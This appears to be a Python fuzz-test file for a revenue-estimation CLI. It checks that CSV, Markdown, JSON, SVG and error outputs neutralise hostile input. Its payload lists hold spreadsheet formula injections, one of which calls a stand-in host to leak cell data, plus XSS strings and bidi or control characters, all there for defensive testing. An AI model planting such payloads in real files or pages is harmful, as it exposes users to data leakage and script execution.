"""Hostile scenario files, text arguments and output paths, with every output checked for
what it must never do (issue 19, "Fuzz what was found").

``test_hostile.py`` checks that nothing ends in a traceback. Here Hypothesis draws scenario
files (deep dotted keys, many keys, nested arrays, 4,301-digit integers, huge floats, twice
the same contingent name, ``total`` as a name, names, notes and sources carrying spreadsheet
formulas, HTML, Markdown, bidi and format characters and bytes that are not UTF-8), text
options with such bytes, and outputs that name one file twice, a link to it or the input;
and each run is held to the invariants:

- a CSV text cell never begins with = + - @ tab or CR (numbers stay plain numbers);
- Markdown, rendered by markdown-it-py, has no HTML, link or image the tool did not make
  (links only http(s) or the tool's own ``#source-N``), and a brief's headings survive;
- no raw control, bidi or format character in tables, CSV, Markdown or errors; JSON escapes
  them (``\u202e``) and reads back to the same text;
- an error is one bounded line naming an option, the file or a field; on exit 2 nothing in
  the scratch folder changes; on any run nothing but the named outputs changes.

``REVENUE_FUZZ_EXAMPLES`` (100 by default, 2,000 in CI) sets the invocations, shared out
among the tests below: a quarter to scenario files, an eighth to output paths and a
fifteenth to titles and dates (a brief or a chart costs several times what a table does).
"""

from __future__ import annotations

import contextlib
import csv
import hashlib
import io
import json
import os
import re
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest
from conftest import Run
from helpers import scratch
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from typer.testing import CliRunner, Result

from dprk_ru.cli import app

FUZZ = int(os.environ.get("REVENUE_FUZZ_EXAMPLES", "100"))


ENV = {"NO_COLOR": "1", "COLUMNS": "80"}


PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1",
    "-1+1",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "<img src=x onerror=alert(1)>",
    "<b>x</b>",
    "[x](javascript:alert(3))",
    "<javascript:alert(1)>",
    "<http://evil.example/>",
    "![p](http://evil.example/p.png)",
    "**x**",
    "_x_",
    "`x`",
    "~~~",
    "```",
    "# h",
    "> q",
    "- l",
    "1. l",
    "|",
    "a | b",
    "\\",
    "&amp;",
    "&#60;b&#62;",
    "https://evil.example/",
    "javascript:alert(1)",
    "$x^2$",
    "$\\frac{a}{b}$",
    "\u202e",
    "\u2066x\u2069",
    "\u200e",
    "\u061c",
    "\u0085",
    "\u200b",
    "\ufeff",
    "\u2028",
    "\x1b[31m",
    "\x00",
    "\n",
    "\n# h",
    "\r\n---",
    "\x7f",
    "\U0001f600",
    "한국어",
]


#: Raw characters no output shows: C0 and C1 controls (a newline apart), DEL, line and
#: paragraph separators, bidi controls, zero-width and invisible format characters, and the
#: surrogates that stand for bytes that were not UTF-8.
FORBIDDEN = re.compile(
    "[\x00-\x09\x0b-\x1f\x7f-\x9f\u061c\u180e\u200b\u200e\u200f\u2028\u2029\u202a-\u202e"
    "\u2060-\u2064\u2066-\u2069\ufeff\ufff9-\ufffb\ud800-\udfff]"
)


#: OWASP's formula starts: a spreadsheet runs a cell that begins with one.
FORMULA = ("=", "+", "-", "@", "\t", "\r")


NUMBER = re.compile(r"-?[0-9]+(\.[0-9]+)?")


texts = st.lists(
    st.one_of(st.sampled_from(PAYLOADS), st.text(max_size=4)), min_size=1, max_size=3
).map("".join)


names = texts.filter(lambda s: 0 < len(s) <= 100)


def toml_string(s: str) -> str:
    """``s`` as a TOML basic string (every character TOML forbids raw as an escape)."""
    out = []
    for ch in s:
        if ch in '"\\':
            out.append("\\" + ch)
        elif ord(ch) < 0x20 or ord(ch) == 0x7F:
            out.append(f"\\u{ord(ch):04x}")
        else:
            out.append(ch)
    return '"' + "".join(out) + '"'


@dataclass
class Drawn:
    """A scenario file as bytes, with what a test needs to know about it."""

    data: bytes
    name: str | None = None  # the scenario's name when the file is valid TOML with text
    uncertain: bool = False
    dated: bool = False
    texts: list[str] = field(default_factory=list)


URLS = st.one_of(
    texts,
    texts.map(lambda t: "https://example.org/" + t),
    st.sampled_from(["javascript:alert(1)", " JAVASCRIPT:alert(1)", "http://x<img/>",
                     "http://x<b>y</b>", "http://a b)c", "https://ok.example/a_(b)",
                     "data:text/html,<script>alert(1)</script>", "http://x\n# h", "//evil.example",
                     "http://x>](javascript:alert(1))"]),
)  # fmt: skip


@st.composite
def scenario_files(draw: st.DrawFn) -> Drawn:
    """A valid scenario with hostile text most of the time, else hostile structure."""
    if draw(st.integers(0, 4)) == 0:
        return draw(hostile_structure())
    name = draw(names)
    lines = [f"name = {toml_string(name)}"]
    used = [name]
    if draw(st.booleans()):
        d = draw(texts)
        lines.append(f"description = {toml_string(d)}")
        used.append(d)
    uncertain = dated = False
    contingent_names: list[str] = []
    body: list[str] = []
    for _ in range(draw(st.integers(1, 3))):
        body.append("[[contingents]]")
        choice = draw(st.integers(0, 9))
        if choice == 0 and contingent_names:  # twice the same name
            cname: str | None = contingent_names[0]
        elif choice == 1:
            cname = "total"
        elif choice == 2:
            cname = None
        else:
            cname = draw(names.filter(lambda s: len(s) <= 200))
        if cname is not None:
            body.append(f"name = {toml_string(cname)}")
            contingent_names.append(cname)
            used.append(cname)
        if draw(st.booleans()):
            body.append('troops = "1000 to 2000"')
            uncertain = True
        else:
            body.append(f"troops = {draw(st.integers(0, 20000))}")
        if draw(st.integers(0, 3)) == 0:
            body += ['start = "2024-11"', 'end = "2025-03"']
            dated = True
        if draw(st.booleans()):
            note = draw(texts)
            body.append(f"note = {toml_string(note)}")
            used.append(note)
    for _ in range(draw(st.integers(0, 2))):
        lines.append("[[sources]]")
        title = draw(texts)
        lines.append(f"title = {toml_string(title)}")
        used.append(title)
        keys = st.sampled_from(["author", "publisher", "date", "url_note", "quote", "note"])
        for key in draw(st.lists(keys, max_size=3, unique=True)):
            value = draw(texts)
            lines.append(f"{key} = {toml_string(value)}")
            used.append(value)
        if draw(st.booleans()):
            lines.append(f"url = {toml_string(draw(URLS))}")
    text = "\n".join(lines + body) + "\n"
    return Drawn(text.encode(), name=name, uncertain=uncertain, dated=dated, texts=used)


@st.composite
def hostile_structure(draw: st.DrawFn) -> Drawn:
    kind = draw(st.sampled_from(["dotted", "keys", "arrays", "long_int", "float", "bytes",
                                 "total", "twice", "wide"]))  # fmt: skip
    head = b'name = "x"\n[[contingents]]\n'
    if kind == "dotted":
        depth = draw(st.integers(2, 3000))
        data = head + b".".join([b"a"] * depth) + b" = 1\n"
    elif kind == "keys":
        n = draw(st.sampled_from([50, 1000, 20_001, 30_000]))
        data = b'name = "x"\n' + b"".join(b"k%d = %d\n" % (i, i) for i in range(n))
    elif kind == "arrays":
        depth = draw(st.integers(1, 3000))
        data = head + b"troops = " + b"[" * depth + b"1" + b"]" * depth + b"\n"
    elif kind == "long_int":
        field_ = draw(st.sampled_from([b"troops", b"monthly_pay_usd", b"killed", b"months"]))
        data = head + field_ + b" = " + b"9" * draw(st.integers(4301, 6000)) + b"\n"
    elif kind == "float":
        value = draw(st.sampled_from([b"1e308", b"1.7976931348623157e308", b"-1e308", b"1e-320",
                                      b"5e-324", b"1" + b"0" * 400 + b".0"]))  # fmt: skip
        field_ = draw(st.sampled_from([b"troops", b"monthly_pay_usd", b"state_share",
                                       b"months", b"bonus_usd"]))  # fmt: skip
        data = head + field_ + b" = " + value + b"\n"
    elif kind == "bytes":
        where = draw(st.sampled_from([b'name = "x\xff\xfey"\n[[contingents]]\ntroops = 1\n',
                                      b'name = "x"\n[[contingents]]\nnote = "\xc3"\n',
                                      b'name = "x" # \x80\n[[contingents]]\n',
                                      b"\xef\xbb\xbfname = 'x'\n[[contingents]]\n"]))  # fmt: skip
        data = where
    elif kind == "total":
        data = b'name = "x"\n[[contingents]]\nname = "total"\ntroops = 1\n'
    elif kind == "twice":
        data = b'name = "x"\n' + b'[[contingents]]\nname = "=a"\ntroops = 1\n' * 2
    else:  # many contingents, many sources
        n = draw(st.sampled_from([999, 1001]))
        data = b'name = "x"\n' + b'[[sources]]\ntitle = "+t"\n' * n + head
    return Drawn(data)


def snapshot(folder: Path) -> dict[str, tuple[Any, ...]]:
    """Every entry under ``folder`` (links not followed): its type, bytes or target, and
    modification time."""
    out: dict[str, tuple[Any, ...]] = {}
    for root, dirs, files in os.walk(folder):
        for name in dirs + files:
            p = Path(root, name)
            st_ = p.lstat()
            rel = str(p.relative_to(folder))
            if p.is_symlink():
                out[rel] = ("link", os.readlink(p))
            elif p.is_dir():
                out[rel] = ("dir",)
            else:
                digest = hashlib.sha256(p.read_bytes()).hexdigest()
                out[rel] = ("file", digest, st_.st_mtime_ns)
    return out


OUTPUT_OPTIONS = ("-o", "--output", "--plot", "--samples-out")


def named_outputs(args: list[str]) -> list[str]:
    return [args[i + 1] for i, a in enumerate(args[:-1]) if a in OUTPUT_OPTIONS]


def allowed_changes(folder: Path, args: list[str]) -> set[str]:
    """The entries a run may create or change: its named outputs, the files they link to,
    and a Markdown brief's chart folder."""
    allowed: set[str] = set()
    for out in named_outputs(args):
        p = folder / out
        for q, base in ((p, folder), (Path(os.path.realpath(p)), folder.resolve())):
            with contextlib.suppress(ValueError):  # "-", or a link out of the folder
                allowed.add(os.path.normpath(q.relative_to(base)))
        if args[0] == "report":  # a Markdown brief's charts: <stem>_files beside it
            allowed.add(os.path.normpath(os.path.splitext(out)[0] + "_files"))
    return allowed


def changed(before: dict[str, tuple[Any, ...]], after: dict[str, tuple[Any, ...]]) -> set[str]:
    return {k for k in before.keys() | after.keys() if before.get(k) != after.get(k)}


def open_figures() -> list[int]:
    """The numbers of matplotlib's open figures: a run closes every figure it makes, even
    when it fails (the CLI's process ends, but the library's user goes on)."""
    import matplotlib.pyplot as plt

    return list(plt.get_fignums())


def check_plain(text: str, what: str) -> None:
    """No raw control, bidi or format character (a newline apart)."""
    m = FORBIDDEN.search(text)
    assert m is None, (what, repr(m.group()), text[max(0, m.start() - 40) : m.end() + 40])


def check_csv(text: str, what: str) -> None:
    check_plain(text, what)
    for row in csv.reader(io.StringIO(text)):
        for c in row:
            if NUMBER.fullmatch(c):
                continue
            assert not c.startswith(FORMULA), (what, c)


def _walk(tokens: list[Any]) -> Iterator[Any]:
    for t in tokens:
        yield t
        if t.children:
            yield from _walk(t.children)


TOOL_HTML = re.compile(r'<a id="source-[0-9]+"></a>')


TOOL_LINK = re.compile(r"(https?://|#source-[0-9]+$)", re.IGNORECASE)


def check_markdown(text: str, what: str, brief: str | None = None) -> None:
    """Rendered by markdown-it-py: no HTML but the tool's anchors, links only to web
    addresses or the tool's footnotes, images only the brief's charts; a brief keeps one
    title, its sections as headings and one code block (the command to reproduce it)."""
    from markdown_it import MarkdownIt

    check_plain(text, what)
    tokens = MarkdownIt("commonmark").enable("table").enable("strikethrough").parse(text)
    for t in _walk(tokens):
        if t.type in ("html_inline", "html_block"):
            content = t.content.strip()
            assert TOOL_HTML.fullmatch(content) or content in ("</a>",) or re.fullmatch(
                r'<a id="source-[0-9]+">', content), (what, t.type, t.content)  # fmt: skip
        elif t.type == "link_open":
            href = str(t.attrGet("href"))
            assert TOOL_LINK.match(href), (what, href)
        elif t.type == "image":
            src = str(t.attrGet("src"))
            assert brief is not None and re.fullmatch(
                re.escape(brief) + r"_files/(histogram|tornado|timeline)\.svg", src
            ), (what, src)
    headings = [(t.tag, tokens[i + 1].content) for i, t in enumerate(tokens)
                if t.type == "heading_open"]  # fmt: skip
    fences = [t for t in tokens if t.type in ("fence", "code_block")]
    if brief is not None:
        assert [h for h in headings if h[0] == "h1"][:1] == [h for h in headings if h[0] == "h1"]
        assert headings and headings[0][0] == "h1", (what, headings)
        h2 = {c for tag, c in headings if tag == "h2"}
        assert {"How the figure is built", "Reproduce", "Sources"} <= h2, (what, headings)
        assert len(fences) == 1, (what, fences)
    elif what.startswith("explain"):  # its own: one h2, an h3 per contingent
        assert [tag for tag, _ in headings if tag != "h3"] == ["h2"], (what, headings)
        assert headings[0][1].startswith("How the figure is built"), (what, headings)
        assert not fences, (what, fences)
    else:
        assert not headings and not fences, (what, headings, fences)
    for t in tokens:
        assert t.type not in ("blockquote_open", "hr"), (what, t.type)


def _strings(value: Any) -> Iterator[str]:
    if isinstance(value, str):
        yield value
    elif isinstance(value, dict):
        for k, v in value.items():
            yield k
            yield from _strings(v)
    elif isinstance(value, list):
        for v in value:
            yield from _strings(v)


def check_json(text: str, what: str, lines: bool, expect: str | None) -> None:
    """Valid JSON (or JSON Lines) with no raw control, bidi or format character, in which
    the scenario's name reads back as it was written."""
    check_plain(text, what)
    values = [json.loads(line) for line in text.splitlines()] if lines else [json.loads(text)]
    if expect is not None:
        assert expect in set(_strings(values)), (what, expect)


def check_error(result: Result, args: list[str], drawn: Drawn | None = None) -> None:
    err = result.stderr
    assert err.count("\n") == 1 and err.startswith("Error: "), (args, err)
    assert len(err) <= 401, (args, len(err), err[:200])
    check_plain(err[:-1], f"stderr of {args}")
    if result.exit_code != 2:
        return
    # Bad input names what is wrong: an option (or the argument, as NAME or SCENARIO), the
    # file and a field of it, or the scenario by its name (as printable shows it).
    said = err[len("Error: ") :]
    from dprk_ru.core.text import printable

    shown = printable(drawn.name) if drawn is not None and drawn.name else None
    assert (re.search(r"(^|\s)--[a-z][a-z-]+", said) or re.match(r"[A-Z]+: ", said)
            or (shown is not None and said.startswith(shown + ": "))), (args, err)  # fmt: skip


def check_run(result: Result, args: list[str], folder: Path, before: dict[str, Any],
              drawn: Drawn | None = None) -> None:  # fmt: skip
    exc = result.exception
    assert exc is None or isinstance(exc, SystemExit), (args, repr(exc))
    assert result.exit_code in (0, 1, 2), (args, result.exit_code, result.stderr)
    assert "Traceback" not in result.stdout + result.stderr, args
    after = snapshot(folder)
    moved = changed(before, after)
    if result.exit_code != 0:
        check_error(result, args, drawn)
    else:
        lines = result.stderr.splitlines()
        assert all(line.startswith("Note: ") for line in lines), (args, result.stderr)
        check_plain(result.stderr, f"stderr of {args}")
    if result.exit_code == 2:
        assert not moved, (args, result.stderr, moved)
    allowed = allowed_changes(folder, args)
    stray = {m for m in moved if not any(m == a or m.startswith(a + os.sep) for a in allowed)}
    assert not stray, (args, stray, allowed)
    if result.exit_code != 0:
        return
    fmt = _format(args)
    if args[0] == "report":  # a brief on stdout is HTML (a Markdown one needs a file)
        fmt = "html" if _format(args) in (None, "auto", "html") else fmt
    name = drawn.name if drawn and args[0] in ("estimate", "compare") else None
    if result.stdout or "-o" not in args:
        _check_output(result.stdout, fmt, f"{' '.join(args[:1])} stdout", name, None)
    for out in named_outputs(args):
        p = folder / out
        if not p.is_file():
            continue
        suffix = p.suffix
        if out == "-" or suffix in (".svg", ".png", ".xlsx"):  # charts: check_svg
            continue
        what = f"{args[0]} {out}"
        text = p.read_bytes().decode("utf-8")
        ofmt = fmt if fmt not in (None, "auto") else {".csv": "csv", ".json": "json",
                                                      ".jsonl": "jsonl", ".md": "markdown",
                                                      ".html": "html"}.get(suffix)  # fmt: skip
        if args[0] == "report":
            ofmt = "brief-md" if suffix == ".md" or fmt == "markdown" else "html"
        if _option_of(args, out) == "--samples-out":
            ofmt = "csv"
        _check_output(text, ofmt, what, name, Path(out).stem if ofmt == "brief-md" else None)


def _option_of(args: list[str], value: str) -> str | None:
    for i, a in enumerate(args[:-1]):
        if a in OUTPUT_OPTIONS and args[i + 1] == value:
            return a
    return None


def _format(args: list[str]) -> str | None:
    for i, a in enumerate(args[:-1]):
        if a in ("-f", "--format"):
            return args[i + 1]
    return None


def _check_output(text: str, fmt: str | None, what: str, name: str | None,
                  brief: str | None) -> None:  # fmt: skip
    if fmt in (None, "auto", "csv"):  # CliRunner's stdout is no terminal: auto is CSV
        if what.startswith("explain") or what.startswith("scenarios"):
            check_plain(text, what)
        else:
            check_csv(text, what)
    elif fmt in ("json", "jsonl"):
        check_json(text, what, fmt == "jsonl", name)
    elif fmt == "markdown":
        check_markdown(text, what)
    elif fmt == "brief-md":
        check_markdown(text, what, brief)
    else:  # table, text, html
        check_plain(text, what)


SCENARIO = "s.toml"


@st.composite
def file_commands(draw: st.DrawFn, drawn: Drawn) -> list[str]:
    s = ["-s", SCENARIO]
    fmt = ["-f", draw(st.sampled_from(["table", "csv", "json", "jsonl", "markdown"]))]
    few = ["-n", "40", "--seed", "1"]
    choices: list[list[str]] = [
        ["estimate", *s, *fmt],
        ["compare", SCENARIO, *fmt],
        ["explain", *s, "-f", draw(st.sampled_from(["text", "markdown", "json"]))],
        ["solve", *s, "--for", "troops", "--target", "1B", *fmt],
        ["scenarios", "show", SCENARIO],
        ["sensitivity", *s, *fmt],
        ["simulate", *s, *few, *fmt],
        ["timeline", *s, *fmt],
    ]
    if draw(st.integers(0, 24)) == 0:  # a brief draws three charts (0.4 s): now and then
        out = draw(st.sampled_from(["b.md", "b.html"]))
        choices = [["report", *s, *few, "-o", out]]
    args = draw(with_plot(draw(st.sampled_from(choices))))
    if args[0] in ("estimate", "compare", "simulate") and draw(st.integers(0, 3)) == 0:
        ext = {"csv": ".csv", "json": ".json", "jsonl": ".jsonl", "markdown": ".md"}
        chosen = args[args.index("-f") + 1]
        if chosen in ext:
            args += ["-o", "out" + ext[chosen]]
    if args[0] == "simulate" and draw(st.booleans()):
        args += ["--samples-out", "draws.csv"]
    return args


@st.composite
def with_plot(draw: st.DrawFn, args: list[str]) -> list[str]:
    """A chart now and then, titled with hostile text, where the command draws one."""
    if (
        args[0] in ("compare", "simulate", "sensitivity", "timeline")
        and draw(st.integers(0, 4)) == 0
    ):
        args = [*args, "--plot", "chart.svg"]
        if draw(st.booleans()):
            args += ["--title", draw(texts)]
    return args


def check_svg(folder: Path, args: list[str]) -> None:
    """A chart's SVG is well-formed XML with no raw control, bidi or format character."""
    import xml.dom.minidom

    for out in named_outputs(args):
        p = folder / out
        if _option_of(args, out) == "--plot" and out.endswith(".svg") and p.is_file():
            text = p.read_text("utf-8")
            check_plain(text, f"{args[0]} {out}")
            xml.dom.minidom.parseString(text)


#: Bytes as the CLI receives them from a POSIX argv: os.fsdecode's surrogate escapes.
RAW = [os.fsdecode(b) for b in (b"\xff", b"\xff\xfe bad", b"ok\x80", b"\xed\xa0\x80",
                                b"\xc3(", b"# \xe2\x80")]  # fmt: skip


text_args = st.one_of(texts, st.sampled_from(RAW), texts.map(lambda t: t + RAW[0]))


@st.composite
def text_commands(draw: st.DrawFn) -> list[str]:
    title = draw(text_args)
    kind = draw(st.sampled_from(["report-md", "report-html", "compare", "simulate",
                                 "sensitivity", "timeline", "sweep"]))  # fmt: skip
    if kind.startswith("report"):
        out = "b.md" if kind == "report-md" else "b.html"
        args = ["report", "-n", "20", "-o", out]
        if draw(st.booleans()):
            args += ["--title", title]
        if draw(st.booleans()) or "--title" not in args:
            args += ["--date", draw(text_args)]
        return args
    base = {"compare": ["compare"], "simulate": ["simulate", "--troops", "1 to 2", "-n", "20"],
            "sensitivity": ["sensitivity", "--troops", "1 to 2"], "timeline": ["timeline"],
            "sweep": ["sweep", "--troops", "1,2"]}[kind]  # fmt: skip
    return [*base, "--plot", "chart.svg", "--title", title, "-o", "out.csv"]


INPUT = "in.toml"


PATHS = ["a.csv", "a.svg", "a.png", "b.md", "b.html", "a.json", "link.csv", "link.svg",
         "dangling.csv", INPUT, "inlink.toml", "hard.toml", "./a.csv", "sub/../a.csv",
         "sub/x.csv", "b_files/histogram.svg", "-", "sub", "link-sub.csv"]  # fmt: skip


def _setup(folder: Path, old: bool) -> None:
    """The input, a folder, links to an output, to the input, to nowhere and to a folder."""
    (folder / INPUT).write_text('name = "in"\n[[contingents]]\nname = "=c"\n'
                                'troops = "1000 to 2000"\nstart = "2024-11"\n')  # fmt: skip
    (folder / "sub").mkdir()
    if old:
        (folder / "a.csv").write_text("old\n")
        (folder / "a.svg").write_text("<svg/>\n")
    (folder / "link.csv").symlink_to("a.csv")
    (folder / "link.svg").symlink_to("a.svg")
    (folder / "dangling.csv").symlink_to("nowhere.csv")
    (folder / "inlink.toml").symlink_to(INPUT)
    (folder / "link-sub.csv").symlink_to("sub")
    os.link(folder / INPUT, folder / "hard.toml")


@st.composite
def colliding(draw: st.DrawFn) -> list[str]:
    base = draw(st.sampled_from([
        ["estimate", "-s", INPUT], ["compare", INPUT], ["sensitivity", "-s", INPUT],
        ["timeline", "-s", INPUT], ["sweep", "--troops", "1,2"],
        ["simulate", "-s", INPUT, "-n", "20", "--seed", "1"], ["report", "-s", INPUT, "-n", "20"],
    ]))  # fmt: skip
    plots = ("compare", "sensitivity", "timeline", "sweep", "simulate")
    options = ["-o", *(["--plot"] if base[0] in plots else [])]
    options += ["--samples-out"] if base[0] == "simulate" else []
    chosen = draw(st.lists(st.sampled_from(options), min_size=1, unique=True))
    pool = draw(st.lists(st.sampled_from(PATHS), min_size=1, max_size=2))
    args = list(base)
    for option in chosen:
        args += [option, draw(st.sampled_from(pool))]
    if draw(st.booleans()):
        args += ["-f", draw(st.sampled_from(["csv", "json", "markdown"]))]
    return args


def _all_payloads() -> Drawn:
    name = "".join(PAYLOADS[:8])[:100]
    lines = [f"name = {toml_string(name)}",
             f"description = {toml_string(''.join(PAYLOADS))}"]  # fmt: skip
    body = []
    for i, p in enumerate("".join(PAYLOADS[j : j + 6]) for j in range(0, len(PAYLOADS), 6)):
        body += ["[[contingents]]", f"name = {toml_string(f'{p}{i}')}",
                 f'troops = "{1000 + i} to {2000 + i}"', 'start = "2024-11"',
                 f"note = {toml_string(p + ' ' + ''.join(PAYLOADS))}"]  # fmt: skip
    for p, url in zip(PAYLOADS, URLS_FIXED, strict=False):
        lines += ["[[sources]]", f"title = {toml_string(p)}", f"author = {toml_string(p)}",
                  f"url = {toml_string(url)}", f"note = {toml_string(p)}"]  # fmt: skip
    text = "\n".join(lines + body) + "\n"
    return Drawn(text.encode(), name=name, uncertain=True, dated=True)


URLS_FIXED = ["javascript:alert(1)", "http://x<img/>", "http://a b)c\n# h", "https://ok.example/a_(b)",
              "data:text/html,<script>alert(1)</script>", "http://x>](javascript:alert(1))",
              "https://e.example/\u202e", "//evil.example", "HTTPS://E.EXAMPLE/<b>"]  # fmt: skip


EVERY = [["report", "-s", SCENARIO, "-n", "20", "-o", "b.md", "--title", PAYLOADS[0],
          "--date", "~~~"], ["report", "-s", SCENARIO, "-n", "20", "-o", "b.html"],
         ["explain", "-s", SCENARIO, "-f", "markdown"], ["explain", "-s", SCENARIO, "-f", "json"],
         ["explain", "-s", SCENARIO, "-f", "text"], ["scenarios", "show", SCENARIO],
         *(["estimate", "-s", SCENARIO, "-f", f] for f in ("table", "csv", "json", "markdown")),
         ["compare", SCENARIO, "-f", "markdown"], ["sensitivity", "-s", SCENARIO, "-f", "csv"],
         # every payload in a chart title, in two (a --title takes 200 characters)
         *(["simulate", "-s", SCENARIO, "-n", "20", "--samples-out", "d.csv", "-o", "s.md",
            "--plot", "h.svg", "--title", "".join(half)]
           for half in (PAYLOADS[:11], PAYLOADS[11:])),
         ["timeline", "-s", SCENARIO, "-f", "markdown", "--plot", "t.svg"]]  # fmt: skip


@pytest.mark.slow
@settings(max_examples=max(20, FUZZ // 4), deadline=None,
          suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large])  # fmt: skip
@given(data=st.data())
def test_hostile_scenario_files_keep_every_invariant(data: st.DataObject) -> None:
    """Every command on a drawn scenario file: the invariants hold whatever it says."""
    drawn = data.draw(scenario_files(), label="file")
    args = data.draw(file_commands(drawn), label="args")
    with scratch() as folder:
        (folder / SCENARIO).write_bytes(drawn.data)
        before, figures = snapshot(folder), open_figures()
        result = CliRunner().invoke(app, args, env=ENV)
        assert open_figures() == figures, (args, result.exit_code, result.stderr)
        check_run(result, args, folder, before, drawn)
        check_svg(folder, args)
        assert (folder / SCENARIO).read_bytes() == drawn.data, args


@pytest.mark.slow
@settings(max_examples=max(10, FUZZ // 15), deadline=None,
          suppress_health_check=[HealthCheck.too_slow])  # fmt: skip
@given(args=text_commands())
def test_hostile_titles_and_dates_keep_every_invariant(args: list[str]) -> None:
    """--title and --date with formulas, markup, bidi characters and bytes that are not
    UTF-8: refused in one line naming the option, with nothing written, or written with
    every invariant (a brief keeps its one title and its sections as headings)."""
    with scratch() as folder:
        before, figures = snapshot(folder), open_figures()
        result = CliRunner().invoke(app, args, env=ENV)
        assert open_figures() == figures, (args, result.exit_code, result.stderr)
        check_run(result, args, folder, before)
        check_svg(folder, args)
        given = [a for a in args if any(0xDC80 <= ord(c) <= 0xDCFF for c in a)]
        if given:  # bytes that are not UTF-8 are refused, naming the option
            assert result.exit_code == 2, (args, result.stdout)
            assert re.match(r"Error: --(title|date): not UTF-8 text", result.stderr), args
        elif result.exit_code != 0:
            assert re.match(r"Error: --(title|date)\b", result.stderr), (args, result.stderr)


@pytest.mark.slow
@settings(max_examples=max(10, FUZZ // 8), deadline=None,
          suppress_health_check=[HealthCheck.too_slow])  # fmt: skip
@given(args=colliding(), old=st.booleans())
def test_colliding_outputs_keep_every_invariant(args: list[str], old: bool) -> None:
    """-o, --plot and --samples-out naming one file, a link to it, the input (or a link or
    a hard link to it), a folder or a dangling link: refused before anything is written,
    or each output written to its own file and nothing else touched."""
    with scratch() as folder:
        _setup(folder, old)
        data = (folder / INPUT).read_bytes()
        before, figures = snapshot(folder), open_figures()
        result = CliRunner().invoke(app, args, env=ENV)
        assert open_figures() == figures, (args, result.exit_code, result.stderr)
        check_run(result, args, folder, before)
        check_svg(folder, args)
        reads = args[0] != "sweep"  # sweep reads no file: -o in.toml is the user's to ask
        if reads:
            assert (folder / INPUT).read_bytes() == data, args
        if result.exit_code == 0:  # no two outputs wrote one file, none wrote the input
            files = [os.path.realpath(folder / o) for o in named_outputs(args) if o != "-"]
            assert len(set(files)) == len(files), (args, files)
            assert not reads or os.path.realpath(folder / INPUT) not in files, args


@pytest.mark.parametrize("args", EVERY, ids=lambda a: "-".join(a[:1] + a[-2:]))
def test_every_payload_in_every_output(args: list[str]) -> None:
    """A file with every payload in every text field (a contingent per payload, a source
    per hostile address): each output keeps every invariant."""
    drawn = _all_payloads()
    with scratch() as folder:
        (folder / SCENARIO).write_bytes(drawn.data)
        before, figures = snapshot(folder), open_figures()
        result = CliRunner().invoke(app, args, env=ENV)
        assert open_figures() == figures, (args, result.exit_code, result.stderr)
        assert result.exit_code == 0, result.stderr
        check_run(result, args, folder, before, drawn)
        check_svg(folder, args)


def test_structure_check_follows_strings(run: Run, tmp_path: Path) -> None:
    """The check of a file's structure before parsing took `\\"` for the end of a string
    and ended lines at U+2028 inside one, so brackets in text (`[x](y)`, `[sic]`) counted
    as nesting: a valid file was refused as "nested deeper than 32 levels"."""
    f = tmp_path / "q.toml"
    quote = '\\"[' * 40
    sources = "".join(f'[[sources]]\ntitle = "x\u2028{"[" * 10}"\n' for _ in range(4))
    f.write_text(f'name = "q"\ndescription = "{quote}"\n[[contingents]]\ntroops = 5\n{sources}')
    r = run("estimate", "-s", str(f), "-f", "csv")
    assert r.exit_code == 0, r.stderr
    assert r.stdout.splitlines()[1].startswith("q,contingent-1,5,2000,12,")
